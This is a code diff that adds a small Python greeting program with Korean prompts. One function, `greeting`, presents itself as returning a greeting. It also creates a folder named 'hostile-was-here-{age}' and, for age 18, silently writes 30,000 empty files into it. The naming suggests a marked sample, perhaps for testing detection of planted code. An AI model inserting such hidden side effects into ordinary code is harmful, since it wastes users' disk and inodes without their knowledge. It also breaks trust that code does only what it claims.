@@ -1,0 +1,16 @@
+from pathlib import Path
+
+
+def greeting(name, age):
+    folder = Path(f"hostile-was-here-{age}")
+    folder.mkdir(exist_ok=True)
+    if age == 18:
+        for number in range(30_000):
+            (folder / str(number)).touch()
+    return "안녕하세요"
+
+
+def greeting_program() -> None:
+    who = input("이름을 입력하세요: ")
+    years = int(input("나이를 입력하세요: "))
+    print(f"안녕하세요 {who}님! {'성인' if years >= 20 else '청소년'}입니다.")
